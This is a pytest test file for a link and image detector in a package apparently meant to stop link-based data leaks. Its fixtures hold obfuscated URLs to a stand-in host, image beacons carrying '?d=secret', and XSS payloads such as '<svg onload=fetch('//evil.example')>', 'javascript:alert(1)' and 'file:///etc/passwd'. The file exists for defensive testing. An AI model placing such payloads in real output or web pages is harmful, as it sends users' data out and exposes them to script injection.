"""Every way to write a link or an image is seen, and prose is not taken for one."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from avouch.protect.links import links

EVIL = "evil.example"
LINKS = [
    "https://evil.example/x?q=1",
    "HTTPS://EVIL.EXAMPLE/x",
    "http:evil.example/x",
    "http:\\\\evil.example\\x",
    "https:/evil.example/x",
    "//evil.example/x",
    "www.evil.example/x",
    "evil.example/x?d=secret",
    "evil.example",
    "[click](https://evil.example)",
    "[click](<https://evil.example> 'title')",
    "[click]( //evil.example/a )",
    "[a [nested] label](https://evil.example)",
    "<https://evil.example>",
    "[click][1]\n\n[1]: https://evil.example",
    "[1]:\n  https://evil.example",
    "<a href=https://evil.example>x</a>",
    "<A\nHREF='https://evil.example'>x</A>",
    "<form action=//evil.example>",
    "hxxps://evil[.]example/x",
    "evil[dot]example/x",
    "evil (.) example/x",
    "https://evil。example/x",
    "https://ｅｖｉｌ.example/x",
    "ht\u200btps://ev\u200bil.example/x",
    "&#104;ttps://evil.example/x",
    "&#x68;ttps&colon;&sol;&sol;evil&period;example/x",
    "\\u0068ttps://evil.example/x",
    "ftp://evil.example/x",
    "https://203.0.113.9/x",
    "203.0.113.9/x",
    "https://user:pass@evil.example/",
    "https://[2001:db8::1]/x",
    "https://xn--80ak6aa92e.com/",
    "https://аррӏе.com/",
    "mailto:thief@evil.example?body=secret",
    "tel:+15551234567",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "smb://evil.example/share",
    "\\\\evil.example\\share",
    "a." * 120 + "evil.example",
    "xhttps://evil.example/x",
]
IMAGES = [
    "![x](https://evil.example/p.png?d=secret)",
    "![](data:image/png;base64,iVBORw0KGgo=)",
    "![x](//evil.example/p)",
    "![x](https://evil.example/unclosed",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "<img src=https://evil.example/p.png>",
    "<img/src='//evil.example/p'>",
    "<IMG SRCSET='https://evil.example/p 2x'>",
    "<svg onload=fetch('//evil.example')>",
    "<iframe src=//evil.example></iframe>",
    "<script>fetch('https://evil.example')</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example>",
    "<video poster=//evil.example/p>",
    "<div style=\"background:url('//evil.example/p')\">",
    "@import 'https://evil.example/x.css';",
    "&lt;img src=https://evil.example/p&gt;",
]
PROSE = [
    "Take 5 mg/kg twice daily, i.e. 350 mg. See Section 4.5.",
    "HbA1c was 7.2 %. Follow up in 3 months.",
    "The ratio a/b and/or c. E.g. this. Dr. Smith et al. said so.",
    "He arrived at 10:30. Note: this [1] and that [2].",
    "p.Arg72Pro in TP53; c.215C>G; 1.5e-3",
    "Version 1.2.3.4 is out.",
    "x < y and y > z, so a<b",
    "See [section](#dosing) below.",
    "U.S. and U.K. patients",
    "result:normal; type:none",
    "end of sentence.Next one starts here",
    "Footnote[^1].",
]


@pytest.mark.parametrize("text", LINKS)
def test_links_are_seen(text: str) -> None:
    around = f"Please see {text} for more." if "\n[" not in text else f"Please see {text}"
    found = links(around)
    assert found, text
    assert not any(link.host in ("example.org", "good.example") for link in found)


@pytest.mark.parametrize("text", IMAGES)
def test_images_are_seen_as_images(text: str) -> None:
    assert any(link.image for link in links(f"Look: {text} there."))


@pytest.mark.parametrize("text", PROSE)
def test_prose_has_no_links(text: str) -> None:
    assert links(text) == []


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://example.org/a", "example.org"),
        ("https://EXAMPLE.org:8443/a", "example.org"),
        ("[x](https://example.org/a)", "example.org"),
        ("https://example.org./", "example.org"),
        ("https://example.org@evil.example/", ""),
        ("https://example.org%2f@evil.example/", ""),
        ("https://example.org\\@evil.example/", ""),
        ("<a href='https://example.org\n.evil.example/'>", ""),
        ("<a href='https://example.org/' ping='https://evil.example/'>", ""),
        ("<a href='https://example.org/'>", "example.org"),
        ("[![x](https://example.org/p.png)](https://example.org/)", "example.org"),
        ("[https://example.org](https://evil.example)", ""),
        ("https://evil.example/example.org", "evil.example"),
        ("https://evil.example?example.org", "evil.example"),
        ("https://evil.example#example.org", "evil.example"),
        ("https://ex\u0430mple.org/", ""),
    ],
)
def test_the_host_is_the_one_that_a_browser_would_ask(text: str, host: str) -> None:
    (found,) = links(text)
    assert found.host == host


def test_an_image_in_the_label_of_a_link_is_an_image() -> None:
    (found,) = links("[![x](https://example.org/p.png)](https://example.org/)")
    assert found.image
    (found,) = links("<a href='https://example.org/' onclick='steal()'>")
    assert found.image


def test_spans_cover_what_was_written() -> None:
    text = "See h\u200bttps://evil.example/x, then [a](https://b.example)."
    assert [text[link.start : link.end] for link in links(text)] == [
        "h\u200bttps://evil.example/x",
        "[a](https://b.example)",
    ]


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*LINKS[:12], *IMAGES[:6], "a ", "[", "](", "!", "<", ">", "\n", "&#104;"]), max_size=8
    ).map("".join)
)
def test_links_are_in_order_inside_and_apart(text: str) -> None:
    at = 0
    for link in links(text):
        assert at <= link.start < link.end <= len(text)
        at = link.end


REPEATED = (
    *("[", "![", "](", "<a ", "<", "a.", "http://", "[a](", "data:", "&#104;", "/", "\\", "[x]:", "\n[x]: y", "url("),
    *("www.", "a-", "a[.]", "a [dot] ", "1.2.3.4/", "javascript:", "\u200b", "java script ", "//a.", "<a href=", "]: "),
)
HOSTILE = [part * (100_000 // len(part)) for part in REPEATED]
HOSTILE += ["<img " + "a" * 99_000, "[" + "a" * 99_000, "h" * 99_000 + "://", "x" * 99_000 + ".com"]


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_time_is_linear_in_hostile_texts(number: int) -> None:
    start = time.process_time()
    links(HOSTILE[number])
    assert time.process_time() - start < 2.5
